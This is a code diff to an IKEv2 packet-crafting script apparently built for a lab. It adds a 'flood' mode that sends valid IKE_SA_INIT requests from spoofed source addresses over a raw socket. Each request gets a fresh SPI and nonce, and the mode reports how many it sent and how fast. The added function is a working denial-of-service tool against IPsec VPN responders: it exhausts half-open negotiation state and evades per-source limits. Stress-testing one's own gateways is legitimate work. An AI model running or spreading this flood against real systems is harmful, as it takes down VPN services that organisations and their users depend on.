@@ -9,11 +9,19 @@ Usage: ikecraft.py garbage DST      each kind of malformed datagram once
                                     UNSUPPORTED_CRITICAL_PAYLOAD naming it
        ikecraft.py replay PCAP      the first IKE_AUTH request in PCAP, again,
                                     to where it went
+       ikecraft.py flood DST NET N S R
+                                    at most N valid IKE_SA_INIT requests in
+                                    at most S seconds, R a second at most,
+                                    each from another address of NET
+                                    (spoofed, raw socket), SPI and nonce;
+                                    prints the count and rate
 """
+import ipaddress
 import os
 import socket
 import struct
 import sys
+import time
 
 
 def hdr(ispi, rspi, np, exch, flags, msgid, length, version=0x20):
@@ -68,9 +76,10 @@ def transform(last, ttype, tid, keylen=None):
                        ttype, 0, tid) + attrs
 
 
-def halfopen(dst):
+def init_request(nonce=None):
     """AES-GCM-128, PRF-HMAC-SHA256, ECP-256: what the lab's configuration
-    accepts by default; the responder must answer and then give up."""
+    accepts by default. The SPI is the first 8 octets, the nonce the last
+    32."""
     from cryptography.hazmat.primitives.asymmetric import ec
     key = ec.generate_private_key(ec.SECP256R1())
     nums = key.public_key().public_numbers()
@@ -80,10 +89,15 @@ def halfopen(dst):
     prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(trs), 1, 1, 0, 3) + trs
     sa = payload(34, prop)
     ke = payload(40, struct.pack("!HH", 19, 0) + pub)
-    nonce = payload(0, os.urandom(32))
+    nonce = payload(0, nonce or os.urandom(32))
     body = sa + ke + nonce
     spi = int.from_bytes(os.urandom(8), "big") | 1
-    msg = hdr(spi, 0, 33, 34, 0x08, 0, 28 + len(body)) + body
+    return hdr(spi, 0, 33, 34, 0x08, 0, 28 + len(body)) + body
+
+
+def halfopen(dst):
+    """The responder must answer and then give up."""
+    msg = init_request()
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.settimeout(5)
     s.sendto(msg, (dst, 500))
@@ -128,7 +142,49 @@ def replay(pcap):
     return 1
 
 
+def flood(dst, net, count, seconds, rate):
+    """Spoofed sources: IPv4 and UDP headers of our own (UDP checksum 0),
+    the SPI and nonce new in each; one KE for all."""
+    tmpl = bytearray(init_request())
+    hosts = ipaddress.ip_network(net)
+    nhosts = hosts.num_addresses - 2
+    first = int(hosts.network_address) + 1
+    dstb = socket.inet_aton(dst)
+    udp = struct.pack("!HHHH", 500, 500, 8 + len(tmpl), 0)
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    start = time.monotonic()
+    end = start + seconds
+    n = 0
+    while n < count:
+        if not n % 64:
+            now = time.monotonic()
+            if now >= end:
+                break
+            ahead = start + n / rate - now
+            if ahead > 0:
+                time.sleep(ahead)
+        rnd = os.urandom(40)
+        tmpl[0:8] = rnd[0:8]
+        tmpl[-32:] = rnd[8:40]
+        src = struct.pack("!I", first + n % nhosts)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(tmpl), n & 0xFFFF,
+                         0, 64, 17, 0, src, dstb)
+        try:
+            s.sendto(ip + udp + tmpl, (dst, 0))
+        except OSError:
+            time.sleep(0.001)
+            continue
+        n += 1
+    took = max(time.monotonic() - start, 0.001)
+    print(f"sent {n} spoofed IKE_SA_INIT requests in {took:.1f} s "
+          f"({n / took:.0f}/s)")
+    return 0 if n else 1
+
+
 def main():
+    if len(sys.argv) == 7 and sys.argv[1] == "flood":
+        return flood(sys.argv[2], sys.argv[3], int(sys.argv[4]),
+                     float(sys.argv[5]), float(sys.argv[6]))
     if len(sys.argv) == 3 and sys.argv[1] == "garbage":
         return garbage(sys.argv[2])
     if len(sys.argv) == 3 and sys.argv[1] == "halfopen":
